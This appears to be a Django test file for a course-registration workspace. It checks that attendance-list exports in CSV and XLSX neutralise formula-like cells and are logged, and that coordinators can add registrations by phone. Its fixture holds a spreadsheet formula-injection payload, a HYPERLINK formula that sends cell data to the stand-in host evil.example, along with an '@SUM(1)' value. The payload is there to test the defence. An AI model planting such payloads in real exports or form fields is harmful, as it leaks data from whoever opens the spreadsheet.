"""What the workspace gives out and takes in: the attendance list of a date as CSV and XLSX,
and a registration taken by phone."""

import csv
import io

import openpyxl
import pytest
from django.core import mail
from django.utils import timezone

from tests import factories
from tests.registrations.support import admin_url, coordinator, dates, entry, register
from wagtail_integration.registrations.models import Registration
from wagtail_integration.registrations.seats import target_for
from wagtail_integration.submissions.models import DataProtectionLog, Notification

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HEADINGS = [
    "Name",
    "E-mail",
    "Phone",
    "Languages spoken",
    "Accessibility needs",
    "Status",
    "Attendance",
]


@pytest.fixture
def user():
    return coordinator()


@pytest.fixture
def coordinator_client(client, user):
    client.force_login(user)
    return client


@pytest.fixture
def attended_date():
    """A date that has begun: a hostile name with a seat, one waiting, one cancelled."""
    page = factories.training(seats=1, days_ahead=-1)
    [occurrence] = dates(page)
    entry(
        occurrence,
        1,
        name=HOSTILE,
        phone="+49 261 12345",
        languages=["ar"],
        accessibility="@SUM(1)",
        attendance="attended",
    )
    entry(occurrence, 2, status="waiting")
    entry(occurrence, 3, status="cancelled")
    return occurrence


def _download(client, occurrence, export_format):
    url = admin_url("date", occurrence.pk) + f"?export={export_format}"
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    return response, b"".join(response.streaming_content)


def test_the_csv_attendance_list_has_its_columns_neutralised_cells_and_a_log_entry(
    coordinator_client, user, attended_date
):
    response, body = _download(coordinator_client, attended_date, "csv")

    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == HEADINGS
    assert rows[1] == [
        "'" + HOSTILE,
        "person1@example.org",
        "+49 261 12345",  # a phone number cannot do harm as a formula
        "Arabic",
        "'@SUM(1)",
        "confirmed",
        "attended",
    ]
    # Those with a seat, then the waiting list; who cancelled is not expected.
    assert [row[1] for row in rows[1:]] == ["person1@example.org", "person2@example.org"]
    entry = DataProtectionLog.objects.get()
    assert (entry.action, entry.user, entry.count, entry.via) == ("spreadsheet", user, 2, "admin")
    assert "HYPERLINK" not in entry.subject
    day = f"{timezone.localdate(attended_date.start):%Y-%m-%d}"
    assert response["Content-Disposition"].endswith(f'-{day}.csv"')


def test_the_xlsx_attendance_list_writes_formula_like_text_as_text_and_is_logged(
    coordinator_client, user, attended_date
):
    _response, body = _download(coordinator_client, attended_date, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADINGS
    assert rows[1][0] == HOSTILE
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    entry = DataProtectionLog.objects.get()
    assert (entry.action, entry.user, entry.count) == ("spreadsheet", user, 2)


# -- a registration taken by phone -----------------------------------------------------------


def _add(client, occurrence, **fields):
    data = {"name": "Amal Telefon", "email": "amal@example.org", "language": "ar", **fields}
    return client.post(admin_url("add", occurrence.pk), data)


def test_a_person_added_by_hand_gets_a_seat_and_the_confirmation_in_their_language(
    coordinator_client, user, committed
):
    page = factories.training(seats=1)
    [occurrence] = dates(page)

    with committed():
        response = _add(coordinator_client, occurrence, phone="0261 12345", languages=["ar"])

    assert response.status_code == 302
    assert response["Location"] == admin_url("date", occurrence.pk)
    added = Registration.objects.get()
    assert (added.status, added.source, added.added_by) == ("confirmed", "admin", user)
    assert (added.language, added.phone, added.languages) == ("ar", "0261 12345", ["ar"])
    # Nobody ticked a consent box: none is recorded.
    assert added.consented_at is None and added.privacy_notice is None
    [notification] = Notification.objects.for_object(added)
    assert (notification.kind, notification.language) == ("registration.confirmed", "ar")
    [message] = mail.outbox
    assert message.to == ["amal@example.org"]


def test_a_person_added_by_hand_to_a_full_date_waits_like_anyone(coordinator_client):
    page = factories.training(seats=1)
    [occurrence] = dates(page)
    register(target_for(occurrence=occurrence), 1)

    _add(coordinator_client, occurrence)

    added = Registration.objects.get(email="amal@example.org")
    assert added.status == "waiting"
    assert list(Notification.objects.for_object(added).values_list("kind", flat=True)) == [
        "registration.waiting"
    ]


def test_a_person_added_by_hand_is_refused_as_anyone_would_be(coordinator_client):
    page = factories.training(seats=1, registration_waiting_list=False)
    [occurrence] = dates(page)
    register(target_for(occurrence=occurrence), 1)

    twice = _add(coordinator_client, occurrence, email="person1@example.org")
    full = _add(coordinator_client, occurrence)

    assert twice.status_code == 200 and "email" in twice.context["form"].errors
    assert full.status_code == 200 and full.context["form"].non_field_errors()
    assert Registration.objects.count() == 1


def test_a_person_is_added_by_hand_to_a_course(coordinator_client):
    course = factories.training(
        seats=5, rule="RRULE:FREQ=WEEKLY;COUNT=3", registration_scope="series"
    )

    response = coordinator_client.post(
        admin_url("add_course", course.pk),
        {"name": "Amal Telefon", "email": "amal@example.org", "language": "de"},
    )

    assert response["Location"] == admin_url("course", course.pk)
    added = Registration.objects.get()
    assert (added.series, added.occurrence, added.status) == (course, None, "confirmed")


def test_the_add_form_asks_for_what_the_series_asks_without_a_consent_box(coordinator_client):
    page = factories.training(registration_ask_phone=False)
    [occurrence] = dates(page)

    response = coordinator_client.get(admin_url("add", occurrence.pk))

    assert response.status_code == 200
    fields = set(response.context["form"].fields)
    assert fields == {"name", "email", "languages", "accessibility", "note", "language"}
    assert response.context["form"].fields["email"].required


def test_a_series_that_takes_no_registrations_is_not_added_to(coordinator_client):
    page = factories.training()
    [occurrence] = dates(page)
    page.registration = "none"
    page.save_revision().publish()

    response = coordinator_client.get(admin_url("add", occurrence.pk))

    assert response.status_code == 302
    assert response["Location"] == admin_url("date", occurrence.pk)
